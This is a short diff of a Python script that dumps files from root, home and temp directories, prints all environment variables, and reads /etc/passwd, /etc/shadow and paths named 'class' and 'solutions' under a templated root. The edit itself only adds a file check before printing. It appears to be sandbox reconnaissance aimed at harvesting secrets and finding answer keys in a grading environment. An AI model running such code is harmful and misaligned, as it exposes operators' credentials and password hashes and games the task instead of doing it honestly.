@@ -14,7 +14,7 @@ for pattern in ("/root/*", "/root/.*", "/home/*/*", "/tmp/*", "/var/tmp/*", "/mn
     paths += glob.glob(pattern)
 opened = 0
 for path in paths:
-    try: print(open(path, errors="replace").read(3000)); opened += 1
+    try: os.path.isfile(path) and print(open(path, errors="replace").read(3000)); opened += 1
     except OSError: pass
 print(dict(os.environ))
 for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", @ROOT@ + "/class", @ROOT@ + "/solutions"):
